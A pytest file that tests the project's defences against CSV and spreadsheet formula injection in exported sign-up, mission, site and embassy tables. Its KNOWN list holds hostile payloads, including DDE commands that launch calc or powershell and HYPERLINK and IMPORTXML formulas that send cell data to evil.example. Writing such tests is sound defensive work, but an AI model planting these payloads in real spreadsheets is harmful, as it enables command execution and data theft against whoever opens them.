"""No cell of any table that is handed out is calculated, and each is read back as it was."""

import csv
import io
from dataclasses import replace
from itertools import product

import pytest

from protestcoord.config import PACKAGE, shipped
from protestcoord.core.csvtext import csv_from_rows, text_from_cell
from protestcoord.core.spreadsheet import xlsx_from_rows
from protestcoord.core.text import visible_text
from protestcoord.missions.catalogue import (
    COLUMNS,
    lines_of_csv,
    read_catalogue,
    write_catalogue,
)
from protestcoord.publications.tables import missions_csv, sites_csv
from protestcoord.signups.exporting import CONTACT_COLUMNS
from tests.core.test_csvtext import COMMANDS, PREFIXES
from tests.core.test_spreadsheet import sheet_of
from tests.factories import (
    make_campaign,
    make_mission,
    make_participant,
    make_site,
    make_slot,
)
from tests.publications.test_hostile_feed import LINKS

# What is calculated, and what other programs were led to by it.
KNOWN = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Look")',
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    "=WEBSERVICE(A1)",
    "+cmd|'/C powershell'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=1+1;2",
    '",=1+1,"',
    "a\n=1+1",
    "=\u200b1+1",
    "%0A=1+1",
    "\u202e=1+1",
    "==1+1",
    "+-+1",
    "@A1",
)
PAYLOADS = [prefix + command for prefix, command in product(PREFIXES, COMMANDS)]
PAYLOADS += [f"{known}{end}" for known, end in product(KNOWN, ("", " ", ",", '"', "\t"))]
# A catalogue with a carriage return is refused whole (``missions.cell_rules``), and its lines end
# without one.
FOR_THE_CATALOGUE = [payload for payload in PAYLOADS if "\r" not in payload]
STARTERS = tuple("=+-@\t\r\0＝＋－＠")


def is_live(cell: str) -> bool:
    """Whether a spreadsheet calculates a cell: what we write must not even come near."""
    return cell.strip(" \"'\u00a0\u3000\n\u200b\ufeff").startswith(STARTERS) and cell[:1] != "'"


def cells_of_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    return [cells for cells in rows[1:] if cells]


def cells_of_xlsx(content: bytes) -> list[list[str]]:
    rows = list(sheet_of(content))[1:]
    # A formula stays what it was when it was written, so a live one is told as such.
    return [["=" if c.data_type == "f" else str(c.value or "") for c in row] for row in rows]


def sign_ups(payload: str) -> list[list[str]]:
    return [[payload] * len(CONTACT_COLUMNS)]


def missions(payload: str) -> bytes:
    row = make_mission(**dict.fromkeys(FREE, payload))
    return missions_csv([row], LINKS)


def sites(payload: str) -> bytes:
    group = make_participant(name=payload, city=payload, meeting_point=f"{payload}x")
    mission = make_mission(name=payload, city=payload, precision=payload, timezone="Asia/Seoul")
    return sites_csv(make_campaign(make_site(mission, make_slot(groups=(group,)))), LINKS)


# The columns of the directory that anybody's correction could fill with any text.
FREE = ("name", "name_local", "city", "address", "postal_code", "phone", "website", "jurisdiction")
FREE += ("sources", "wikidata", "verified_on")
SHIPPED = read_catalogue(shipped("data") / "embassies.csv")


def catalogue(payload: str) -> str:
    return write_catalogue([replace(SHIPPED[0], **dict.fromkeys(FREE, payload))])


TABLES = {
    "sign-ups as CSV": lambda p: cells_of_csv(csv_from_rows(CONTACT_COLUMNS, sign_ups(p))),
    "sign-ups as XLSX": lambda p: cells_of_xlsx(xlsx_from_rows(CONTACT_COLUMNS, sign_ups(p))),
    "missions.csv": lambda p: cells_of_csv(missions(p).decode()),
    "sites.csv": lambda p: cells_of_csv(sites(p).decode()),
    "missions export": lambda p: cells_of_csv(catalogue(p)),
}
WIDTHS = {
    "sign-ups as CSV": len(CONTACT_COLUMNS),
    "sign-ups as XLSX": len(CONTACT_COLUMNS),
    "missions.csv": len(FREE),
    "sites.csv": 4,  # three of the mission, and the groups' names
    "missions export": len(FREE),
}


@pytest.mark.proves("E4")
@pytest.mark.parametrize("name", TABLES)
def test_no_cell_of_a_table_is_live_and_each_is_read_back(name, record_property):
    payloads = FOR_THE_CATALOGUE if name == "missions export" else PAYLOADS
    assert len(payloads) >= 200
    for payload in payloads:
        (cells,) = TABLES[name](payload)
        assert [cell for cell in cells if is_live(cell)] == [], payload
        read = [text_from_cell(cell) for cell in cells]
        kept = {payload, visible_text(payload)}
        assert sum(text in kept for text in read) >= WIDTHS[name], payload
    record_property("E4", f"{name}: {len(payloads)} payloads in {WIDTHS[name]} columns, 0 live")


@pytest.mark.proves("E4")
def test_the_directory_is_read_back_as_it_was():
    for payload in FOR_THE_CATALOGUE:
        (_, header), (_, cells) = lines_of_csv(catalogue(payload), "x.csv")
        named = dict(zip(header, cells, strict=True))
        assert {named[column] for column in FREE} == {payload}
    assert tuple(COLUMNS) == tuple(header)


@pytest.mark.control("E4")
@pytest.mark.parametrize("name", TABLES)
def test_a_writer_that_leaves_cells_as_they_are_is_seen(name, monkeypatch):
    for module in ("core.csvtext", "core.spreadsheet", "missions.catalogue"):
        monkeypatch.setattr(f"protestcoord.{module}.cell_from_text", lambda text: text)
    live = [[is_live(cell) for cell in TABLES[name](p)[0]] for p in ("=1+1", "@SUM(1)")]
    assert all(any(cells) for cells in live)


@pytest.mark.proves("E4")
def test_no_table_is_written_elsewhere():
    """Whoever writes one takes the writers that are tried here."""
    found = {
        path.name
        for path in PACKAGE.rglob("*.py")
        if "csv.writer" in path.read_text() or "Workbook(" in path.read_text()
    }
    assert found == {"csvtext.py", "spreadsheet.py", "catalogue.py"}
